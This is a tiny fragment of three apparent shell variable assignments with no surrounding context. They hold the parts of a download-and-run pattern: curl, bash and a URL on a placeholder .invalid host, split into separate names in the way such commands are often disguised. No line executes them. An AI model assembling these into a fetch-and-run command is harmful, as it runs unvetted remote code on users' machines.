G=curl
R=bash
A=https://cdn-x7.invalid/a
